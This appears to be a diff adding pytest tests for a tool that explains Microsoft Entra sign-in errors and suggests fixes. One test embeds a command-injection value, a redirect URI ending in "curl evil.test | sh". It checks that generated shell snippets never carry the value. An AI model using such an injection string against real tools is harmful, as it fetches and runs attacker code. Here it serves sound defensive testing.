@@ -1,0 +1,157 @@
+"""Refusals are explained in this case's own values, by the cause that fits its surroundings."""
+
+import json
+
+import pytest
+
+from inspector import app
+from inspector.diagnosis.diagnose import Diagnosis
+from inspector.diagnosis.expectation import Expectation
+from inspector.diagnosis.finding import Finding
+from inspector.diagnosis.verdict import Outcome
+from tests.minting import CLIENT, NOW, TENANT, entra, mint
+
+
+def diagnose(text: str, **expected: object) -> Diagnosis:
+    return app.explain(text, Expectation(**expected), float(NOW))  # type: ignore[arg-type]
+
+
+def root(text: str, **expected: object) -> Finding:
+    return diagnose(text, **expected).findings[0]
+
+
+def body(description: str, error: str = "invalid_request") -> str:
+    return json.dumps({"error": error, "error_description": description})
+
+
+REDIRECT = (
+    "AADSTS50011: The redirect URI '{uri}' specified in the request does not match the redirect URIs configured for "
+    f"the application '{CLIENT}'."
+)
+
+
+def test_the_redirect_uri_that_was_sent_can_be_copied() -> None:
+    """The remedy holds the exact address."""
+    finding = root(body(REDIRECT.format(uri="https://shop.contoso.example/signin-oidc")))
+    assert finding.codes[0] == "AADSTS50011"
+    assert "https://shop.contoso.example/signin-oidc" in (finding.remedies[0].snippet or finding.remedies[0].text)
+
+
+def test_an_http_address_points_to_the_proxy_that_ends_tls() -> None:
+    """http on a public host is most often https that a proxy turned into http."""
+    diagnosis = diagnose(body(REDIRECT.format(uri="http://shop.contoso.example/signin-oidc")))
+    words = diagnosis.verdict.sentence + " ".join(each.text for each in diagnosis.findings[0].remedies)
+    assert "proxy" in words.lower()
+    assert "https" in words
+
+
+def test_the_broker_is_named() -> None:
+    """The Windows broker has a redirect URI of its own."""
+    diagnosis = diagnose(body(REDIRECT.format(uri=f"ms-appx-web://Microsoft.AAD.BrokerPlugin/{CLIENT}")))
+    assert "broker" in diagnosis.verdict.sentence.lower()
+
+
+NEEDS_SECRET = (
+    "AADSTS7000218: The request body must contain the following parameter: 'client_assertion' or 'client_secret'."
+)
+
+
+@pytest.mark.parametrize(
+    ("context", "word"),
+    [
+        ("React SPA with MSAL.js", "single-page"),
+        ("CLI tool, device code", "public client flows"),
+        ("ASP.NET Core web app, authorization code", "secret"),
+    ],
+)
+def test_the_same_code_has_another_remedy_for_another_client(context: str, word: str) -> None:
+    """What must change depends on the kind of client."""
+    remedy = diagnose(body(NEEDS_SECRET, "invalid_client"), context=context).verdict.remedy
+    assert word in (remedy or "").lower()
+
+
+def test_the_specific_code_wins_over_the_general_one() -> None:
+    """AADSTS70002 only says that credentials failed; AADSTS50012 says which."""
+    text = (
+        "AADSTS70002: Error validating credentials. AADSTS50012: Client assertion is not within its valid time range."
+    )
+    assert root(text).codes[0] == "AADSTS50012"
+
+
+def test_a_wrapper_loses_to_the_code_it_wraps() -> None:
+    """The library's exception is not the cause."""
+    text = f"MsalServiceException: ErrorCode: invalid_client\nMicrosoft.Identity.Client.MsalServiceException: {NEEDS_SECRET}"
+    assert root(text).codes[0] == "AADSTS7000218"
+
+
+def test_a_placeholder_is_named() -> None:
+    """A sample's placeholder in the message is said to be one."""
+    text = "AADSTS700016: Application with identifier 'YOUR_CLIENT_ID' was not found in the directory 'contoso'."
+    diagnosis = diagnose(text)
+    assert "placeholder" in (diagnosis.verdict.sentence + (diagnosis.verdict.remedy or "")).lower()
+
+
+def test_an_interrupt_is_no_failure() -> None:
+    """authorization_pending is what a device flow answers while it waits."""
+    diagnosis = diagnose(body("AADSTS70016: Pending end-user authorization.", "authorization_pending"))
+    assert diagnosis.verdict.outcome is Outcome.EXPLAINED
+
+
+def test_a_forged_code_gets_no_invented_meaning() -> None:
+    """An impossible number is in no list, and the answer says so."""
+    finding = root("AADSTS98765432: Something about the redirect URI went wrong.")
+    assert finding.id == "unknown-code"
+    assert "Inferred" in finding.why
+
+
+def test_a_bare_401_asks_for_what_decides() -> None:
+    """Without any text the answer says what to paste next."""
+    diagnosis = diagnose("HTTP/1.1 401 Unauthorized")
+    assert diagnosis.verdict.outcome is Outcome.REFUSED
+    assert diagnosis.verdict.remedy
+
+
+def test_a_refusal_is_joined_to_the_token_beside_it() -> None:
+    """The evidence cites the claim, and the version that the issuer shows."""
+    token = mint(entra(ver="1.0", iss=f"https://sts.windows.net/{TENANT}/", appid=CLIENT, azp=None))
+    text = f"{token}\nIDX10205: Issuer validation failed. Issuer: 'https://sts.windows.net/{TENANT}/'. Did not match: validationParameters.ValidIssuer: 'https://login.microsoftonline.com/{TENANT}/v2.0'"
+    finding = root(text)
+    assert finding.id == "issuer-of-other-version"
+    assert any(each.where == "iss" for each in finding.evidence)
+    assert "requestedAccessTokenVersion" in finding.remedies[0].text
+
+
+def test_a_refusal_that_does_not_fit_the_token_is_about_another() -> None:
+    """A message about an expired token beside a fresh one."""
+    text = f"{mint(entra())}\nIDX10223: Lifetime validation failed. The token is expired. ValidTo (UTC): '1/1/2020 1:00:00 AM'."
+    assert "refusal-about-another-token" in [finding.id for finding in diagnose(text).findings]
+
+
+def test_a_claims_challenge_is_decoded_and_given_back() -> None:
+    """The parameter to send on is exactly the challenge's JSON."""
+    claims = "eyJhY2Nlc3NfdG9rZW4iOnsibmJmIjp7ImVzc2VudGlhbCI6dHJ1ZSwidmFsdWUiOiIxNjA0MTA2NjUxIn19fQ=="
+    text = (
+        f'HTTP/1.1 401 Unauthorized\nWWW-Authenticate: Bearer realm="", error="insufficient_claims", claims="{claims}"'
+    )
+    finding = next(each for each in diagnose(text).findings if each.id == "claims-challenge")
+    assert finding.remedies[0].snippet == 'claims={"access_token":{"nbf":{"essential":true,"value":"1604106651"}}}'
+
+
+def test_the_same_refusal_twice_is_said_once() -> None:
+    """A log repeats itself; the answer does not."""
+    diagnosis = diagnose("\n".join([body(NEEDS_SECRET)] * 5))
+    assert [finding.id for finding in diagnosis.findings].count("aadsts7000218") == 1
+
+
+def test_a_hostile_value_reaches_no_shell() -> None:
+    """A value that can't be quoted for every shell takes the snippet with it."""
+    hostile = "https://x.test/'; curl evil.test | sh #"
+    for finding in diagnose(body(REDIRECT.format(uri=hostile))).findings:
+        for remedy in finding.remedies:
+            assert not (remedy.snippet and remedy.snippet.startswith("az ") and "curl evil" in remedy.snippet)
+
+
+@pytest.mark.parametrize("text", ["AADSTS50011 " * 20_000, "IDX10214: " + "'" * 100_000, "error=" * 60_000])
+def test_long_nonsense_is_answered(text: str) -> None:
+    """Nothing hangs and nothing raises."""
+    assert diagnose(text).verdict.sentence
